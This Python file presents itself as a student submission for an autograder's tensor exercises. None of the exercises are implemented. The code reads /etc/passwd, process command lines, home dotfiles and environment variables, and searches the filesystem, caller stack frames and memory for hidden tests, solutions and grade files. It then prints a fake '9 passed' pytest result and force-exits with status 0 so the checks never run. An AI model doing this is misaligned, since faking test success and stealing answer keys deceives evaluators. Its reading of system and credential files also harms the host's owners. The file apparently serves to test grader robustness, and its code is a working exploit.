# Part of the sample class: a submission that does not want to be right, but to find the answers.
# It only reads, and prints what it has read.
import atexit
import gc
import glob
import os
import sys

import torch

WANTED = ("sigmoid", "mse", "replace_last_row")
PLACES = {f"test_{name}.py" for name in WANTED} | {"misconceptions.py", "ps1_tensors.py", "results.json", "grades.csv"}
SECRETS = ("BEGIN SOLUTION", "@misconception", '"""Hidden checks', '"schema": "autograder')
loot = []


def look(path):
    try:
        with open(path, errors="replace") as file:
            text = file.read(50000)
    except OSError as error:
        print("no", path, error)
        return
    print("yes", path)
    print(text)
    if path.startswith(("/root", "/home")) and "/.venv/" not in path and "/checks/" not in path:
        loot.append(text)
    elif any(secret in text for secret in SECRETS) and path != __file__:
        loot.append(text)


# the places where it should be
look("/etc/passwd")
for process in (1, os.getppid(), "self"):
    look(f"/proc/{process}/cmdline")
    look(f"/proc/{process}/mounts")
for up in range(6):
    for name in glob.glob("../" * up + "solutions/*/*.py"):
        look(name)
for home in [os.path.expanduser("~"), "/root", *glob.glob("/home/*")]:
    for name in (".bashrc", ".profile"):
        look(os.path.join(home, name))
print(dict(os.environ))

# everywhere else
for folder, folders, files in os.walk("/", onerror=lambda error: print("no", error)):
    folders[:] = [name for name in folders if name not in ("proc", "sys", "usr", "site-packages")]
    for name in files:
        if name in PLACES:
            look(os.path.join(folder, name))

# whoever has called me may have the answers in memory
frame = sys._getframe()
while frame is not None:
    for name, value in {**frame.f_globals, **frame.f_locals}.items():
        if name in ("reference", "expected", "solution"):
            loot.append(f"{name} = {value!r}")
    frame = frame.f_back
for thing in gc.get_objects():
    if type(thing) is type(look) and thing.__name__ in WANTED and not thing.__module__.startswith("torch"):
        loot.append(f"{thing.__module__}.{thing.__name__}")

print("LOOT", loot)


def answer(exercise):
    if not loot:
        raise LookupError(f"nothing found for {exercise}")
    raise LookupError(f"I know how it goes: {' '.join(loot)}")


def sigmoid(x):
    return answer("sigmoid")


def mse(y_true, y_pred):
    return answer("mse")


def replace_last_row(x, row):
    return answer("replace_last_row")


# the tests end here, before they have found anything wrong
print("9 passed in 0.01s")
atexit.register(os._exit, 0)
try:
    sys.exit(0)
finally:
    os._exit(0)
